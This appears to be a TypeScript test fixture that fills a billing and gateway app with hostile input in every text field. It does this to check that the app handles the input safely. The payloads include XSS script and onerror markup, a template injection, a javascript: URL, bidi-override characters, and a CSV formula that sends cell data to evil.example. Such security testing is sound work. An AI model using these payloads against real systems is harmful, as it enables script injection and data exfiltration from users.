// A store whose every text somebody hostile has written: each string that a user may supply holds
// markup, a script's address, a template, a spreadsheet's formula, and letters that reorder others.

import { DatabaseSync } from 'node:sqlite';
import { join } from 'node:path';
import { headersOf, PASSWORD } from './people.ts';
import type { Server } from './server.ts';
import { report, WEBHOOK_SETTINGS } from './webhook.ts';

export const SETTINGS = {
  ...WEBHOOK_SETTINGS,
  TALLYGATE_ENABLE_DIFY_INTEGRATION: 'true',
  TALLYGATE_DIFY_BROWSER_TRUST: 'charge',
};

const MARKUP = '"><script>trap()</script><img src=x onerror=trap()>{{trap()}}';
const LETTERS = '\u202etxet\u200b\u200d𝒯😈';
export const FORMULA = '=HYPERLINK("https://evil.example/?"&A1,"open")';
/** What stands everywhere. The formula's sign comes first, or it would be none. */
export const NASTY = `${FORMULA}${MARKUP}${LETTERS}`;
/** Where only printable letters are taken. */
const PRINTED = NASTY.replace(LETTERS, '𝒯😈');
/** Where a text is a name, which has no slashes. */
export const NAME = 'javascript:trap()"><img src=x onerror=trap()>{{trap()}}';

interface Made {
  readonly id: string;
  readonly secret: string;
  readonly token: string;
  readonly token_hash: string;
}

export async function fill(server: Server, member: string): Promise<void> {
  await fillMoney(server, member);
  await fillBrowserEvents(server, member);
  await fillKeys(server, member);
  fillAnomalies(server);
  await fillTraffic(server); // last: with a provider the demo model is gone
}

async function fillMoney(server: Server, member: string): Promise<void> {
  const call = (method: string, path: string, body?: unknown): Promise<Made> =>
    server.call(method, path, body) as Promise<Made>;
  const user = await call('POST', '/api/users', {
    id: NAME,
    name: PRINTED,
    email: '"><script>trap()</script>@example.com',
    password: PASSWORD,
  });
  await call('POST', '/api/models', {
    model_name: NAME,
    input_token_price: '1',
    output_token_price: '2',
    currency: 'points',
    per_tokens: 1000,
    reason: NASTY,
  });
  await call('POST', `/api/models/${encodeURIComponent(NAME)}/aliases`, { alias: PRINTED });
  await call('PUT', '/api/exchange-rate', { rate: '1000', reason: NASTY });
  for (const id of [user.id, member]) {
    const wallet = `/api/users/${encodeURIComponent(id)}/wallet`;
    await call('PATCH', wallet, { warn_below: '100000' });
    await call('POST', `${wallet}/top-up`, { points: '1000', reason: NASTY });
    await call('POST', `${wallet}/adjust`, { points: '-1', reason: NASTY });
    await call('POST', `${wallet}/grant`, { points: '5', reason: NASTY });
    await call('POST', `${wallet}/holds`, { points: '1', owner: NASTY, reason: NASTY });
    await call('POST', '/api/budgets', { points: '1', span: 'total', user_id: id });
    const used = { conversation_id: NASTY, model_name: NAME, input_tokens: 900, output_tokens: 90 };
    for (const message_id of [`${NASTY} ${id}`, `${NASTY} ${id} 2`]) {
      const answer = await report(server, { ...used, message_id, user_id: id, total_tokens: 990 });
      if (!answer.ok) throw new Error(await answer.text());
    }
  }
  await report(server, { message_id: NASTY, user_id: `${NASTY} nobody`, model_name: NAME });
  await call('POST', '/api/redeem-batches', { count: 2, points: '1', label: NASTY });
  const { items } = (await server.call('GET', '/api/charges')) as { items: Made[] };
  await call('POST', `/api/charges/${items[0]?.id ?? ''}/refund`, { points: '1', reason: NASTY });
}

/** What a member's own browser says that it has seen. */
async function fillBrowserEvents(server: Server, member: string): Promise<void> {
  const said = { conversation_id: NASTY, message_id: `${NASTY} seen`, model_name: NAME };
  const data = { ...said, input_tokens: 10, output_tokens: 1, total_tokens: 11 };
  const answer = await fetch(`${server.url}/api/dify/events`, {
    method: 'POST',
    headers: await headersOf(server, member),
    body: JSON.stringify({ event: 'message_end', data }),
  });
  if (!answer.ok) throw new Error(await answer.text());
}

async function fillKeys(server: Server, member: string): Promise<void> {
  const team = (await server.call('POST', '/api/teams', { name: PRINTED })) as Made;
  await server.call('POST', `/api/teams/${team.id}/members`, { user_id: member });
  const scopes = [NASTY.replaceAll(/\s/g, '')];
  for (const [label, user_id] of [
    [NASTY, ''],
    [`${NASTY} 2`, member],
  ] as const) {
    const limits = { team_id: team.id, ...(user_id ? { user_id } : {}) };
    const key = (await server.call('POST', '/api/keys', { label, ...limits })) as Made;
    await server.chat(key.secret, NASTY, asHeader(NASTY));
  }
  const made = (await server.call('POST', '/api/tokens', {
    ...{ name: PRINTED, team_id: team.id, scopes },
  })) as Made;
  const now = Date.now();
  await server.call(
    'POST',
    '/api/usage-log',
    Array.from({ length: 40 }, (_, index) => ({
      token_hash: made.token_hash,
      route: NASTY,
      timestamp: now - index * 3_000_000,
      user_agent: NASTY.slice(0, 128),
      ip_address: MARKUP.slice(0, 60),
      response_status: index % 3 ? 200 : 500,
      response_time_ms: 40 + index,
    })),
  );
}

/** What a client can say of itself: headers hold bytes, not letters. */
function asHeader(text: string): string {
  return text.replaceAll(/[^\x20-\x7e]/g, '');
}

/** Put there by hand: it takes weeks of traffic until something counts as strange. */
function fillAnomalies(server: Server): void {
  const use = { request_id: NASTY, at_ms: Date.now(), route: NASTY, model: NAME, status: 200 };
  const evidence = {
    ...{ what: NASTY, expected: 2.5, seen: 80, chance: -12, sources: [NASTY], usual: [NASTY] },
    ...{ hours: [[Math.floor(Date.now() / 1000), 80]], rows: [{ ...use, agent: NASTY }] },
  };
  evidence.rows = evidence.rows.map((row) => ({ ...row, address: MARKUP }));
  const store = new DatabaseSync(join(server.data, 'tallygate.db'));
  try {
    store.exec('PRAGMA busy_timeout = 20000');
    for (const [key, kind] of ['volume', 'source'].entries()) {
      store
        .prepare(
          `INSERT INTO anomaly (kind, key_id, state, started_ms, last_ms, evidence, created_ms,
             acknowledged_by, note, throttle) VALUES (?, ?, 'open', ?, ?, ?, ?, '', '', 'off')`,
        )
        .run(kind, key + 1, use.at_ms, use.at_ms, JSON.stringify(evidence), use.at_ms);
    }
  } finally {
    store.close();
  }
}

async function fillTraffic(server: Server): Promise<void> {
  const address = 'https://example.com/%22%3E%3Cimg%20src=x%20onerror=trap()%3E';
  const anomaly = '/api/anomalies/1/acknowledge';
  await server.call('POST', anomaly, { note: NASTY });
  const made = [
    ['/api/routes', { path: '/nasty', backend_url: address, scope: NASTY, host: 'a.example' }],
    [
      '/api/credentials',
      {
        ...{ kind: 'bearer-probe', name: PRINTED, user: PRINTED, pool: PRINTED, secret: 's' },
        variables: { url: address },
      },
    ],
    ['/api/dify/apps', { name: 'nasty', instance: 'nasty', api_url: address, api_key: 'k' }],
    [
      '/api/providers',
      {
        name: 'nasty',
        base_url: address,
        secret: 's',
        models: [PRINTED],
        aliases: { [PRINTED]: NAME },
      },
    ],
  ] as const;
  for (const [path, body] of made) await server.call('POST', path, body);
}
